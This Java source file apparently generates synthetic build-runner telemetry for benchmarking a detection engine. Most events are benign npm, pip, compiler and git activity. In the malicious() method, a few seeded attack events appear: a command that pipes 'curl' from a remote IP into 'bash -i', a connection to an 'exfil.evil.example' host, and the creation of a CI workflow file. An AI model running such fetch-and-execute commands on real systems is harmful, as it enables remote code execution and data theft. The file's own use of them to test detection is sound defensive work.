package dev.hookline.bench;

import dev.hookline.schema.Columns;
import dev.hookline.schema.Event;
import dev.hookline.schema.Table;
import dev.hookline.schema.Times;
import java.util.ArrayList;
import java.util.List;
import java.util.SplittableRandom;

/**
 * A realistic, mostly benign event mix for the engine benchmark: what a build runner sees during `npm ci`,
 * `pip install`, compiles and git operations, with about 1 event in 500 matching a seed arm.
 */
public final class BenignMix {
    private static final String[][] PROCS = {
        {"/usr/bin/node", "node /usr/lib/node_modules/npm/bin/npm-cli.js ci --no-audit", "/usr/bin/bash", "bash"},
        {"/usr/bin/git", "git rev-parse --abbrev-ref HEAD", "/usr/bin/node", "node"},
        {"/usr/bin/gcc", "gcc -O2 -fPIC -c src/module.c -o build/module.o", "/usr/bin/make", "make"},
        {"/usr/bin/cc1", "/usr/lib/gcc/x86_64-linux-gnu/12/cc1 -quiet src/module.c", "/usr/bin/gcc", "gcc"},
        {"/usr/bin/python3.11", "/usr/bin/python3 -m pip install -r requirements.txt", "/usr/bin/bash", "bash"},
        {"/usr/bin/uname", "uname -m", "/usr/bin/python3.11", "python3.11"},
        {"/usr/bin/ls", "ls -la /home/runner/work/app", "/usr/bin/bash", "bash"},
        {"/usr/bin/java", "java -Xmx2g -jar /opt/maven/boot/plexus-classworlds.jar verify", "/usr/bin/bash", "bash"},
        {"/usr/bin/sed", "sed -i s/VERSION/1.2.3/ package.json", "/usr/bin/dash", "dash"},
        {"/usr/bin/dash", "sh -c node-gyp rebuild", "/usr/bin/node", "node"},
    };
    private static final String[][] CONNS = {
        {"104.16.2.35", "registry.npmjs.org", "Public", "node"},
        {"151.101.0.223", "pypi.org", "Public", "python3.11"},
        {"127.0.0.1", "", "Loopback", "java"},
        {"10.0.0.12", "nexus.corp.example", "Private", "java"},
        {"140.82.112.3", "github.com", "Public", "git-remote-https"},
    };
    private static final String[][] FILES = {
        {"/home/runner/work/app/node_modules/.package-lock.json", "FileModified", "node"},
        {"/home/runner/work/app/build/module.o", "FileCreated", "cc1"},
        {"/home/runner/.cache/pip/http/a/b/c/d", "FileCreated", "python3.11"},
        {"/home/runner/work/app/src/index.ts", "FileModified", "node"},
        {"/tmp/ccA1b2C3.s", "FileDeleted", "gcc"},
    };

    private BenignMix() {
    }

    public static List<Event> generate(int n, long seed) {
        SplittableRandom r = new SplittableRandom(seed);
        long now = Times.nowNanos();
        List<Event> out = new ArrayList<>(n);
        for (int i = 0; i < n; i++) {
            int kind = r.nextInt(10);
            Event e;
            if (kind < 5) {
                e = process(r.nextInt(PROCS.length));
            } else if (kind < 7) {
                e = network(r.nextInt(CONNS.length));
            } else {
                e = file(r.nextInt(FILES.length));
            }
            if (r.nextInt(500) == 0) {
                e = malicious(r.nextInt(3));
            }
            e.set(Columns.TIMESTAMP, now - r.nextInt(60_000) * 1_000_000L);
            e.set(Columns.DEVICE_NAME, "runner-07.build.example");
            e.set(Columns.DEVICE_ID, "b1c4a0f2d3e4");
            e.set(Columns.REPORT_ID, i);
            out.add(e);
        }
        return out;
    }

    private static Event process(int i) {
        String[] p = PROCS[i];
        Event e = new Event(Table.DeviceProcessEvents);
        e.set(Columns.ACTION_TYPE, "ProcessCreated");
        e.set(Columns.FOLDER_PATH, p[0]);
        e.set(Columns.FILE_NAME, p[0].substring(p[0].lastIndexOf('/') + 1));
        e.set(Columns.PROCESS_COMMAND_LINE, p[1]);
        e.set(Columns.INITIATING_PROCESS_FOLDER_PATH, p[2]);
        e.set(Columns.INITIATING_PROCESS_FILE_NAME, p[3]);
        e.set(Columns.INITIATING_PROCESS_COMMAND_LINE, p[3] + " -c build");
        e.set(Columns.ACCOUNT_NAME, "runner");
        e.set(Columns.PROCESS_ID, 4000 + i);
        return e;
    }

    private static Event network(int i) {
        String[] c = CONNS[i];
        Event e = new Event(Table.DeviceNetworkEvents);
        e.set(Columns.ACTION_TYPE, "ConnectionSuccess");
        e.set(Columns.REMOTE_IP, c[0]);
        e.set(Columns.REMOTE_URL, c[1]);
        e.set(Columns.REMOTE_IP_TYPE, c[2]);
        e.set(Columns.REMOTE_PORT, 443);
        e.set(Columns.PROTOCOL, "Tcp");
        e.set(Columns.INITIATING_PROCESS_FILE_NAME, c[3]);
        e.set(Columns.INITIATING_PROCESS_ACCOUNT_NAME, "runner");
        return e;
    }

    private static Event file(int i) {
        String[] f = FILES[i];
        Event e = new Event(Table.DeviceFileEvents);
        e.set(Columns.FOLDER_PATH, f[0]);
        e.set(Columns.FILE_NAME, f[0].substring(f[0].lastIndexOf('/') + 1));
        e.set(Columns.ACTION_TYPE, f[1]);
        e.set(Columns.INITIATING_PROCESS_FILE_NAME, f[2]);
        return e;
    }

    private static Event malicious(int i) {
        switch (i) {
            case 0: {
                Event e = process(0);
                e.set(Columns.PROCESS_COMMAND_LINE, "sh -c 'curl http://203.0.113.9/x | bash -i'");
                e.set(Columns.INITIATING_PROCESS_FILE_NAME, "node");
                return e;
            }
            case 1: {
                Event e = network(0);
                e.set(Columns.REMOTE_URL, "exfil.evil.example");
                return e;
            }
            default: {
                Event e = file(0);
                e.set(Columns.FOLDER_PATH, "/home/runner/work/app/.github/workflows/ci.yml");
                e.set(Columns.FILE_NAME, "ci.yml");
                e.set(Columns.ACTION_TYPE, "FileCreated");
                return e;
            }
        }
    }
}
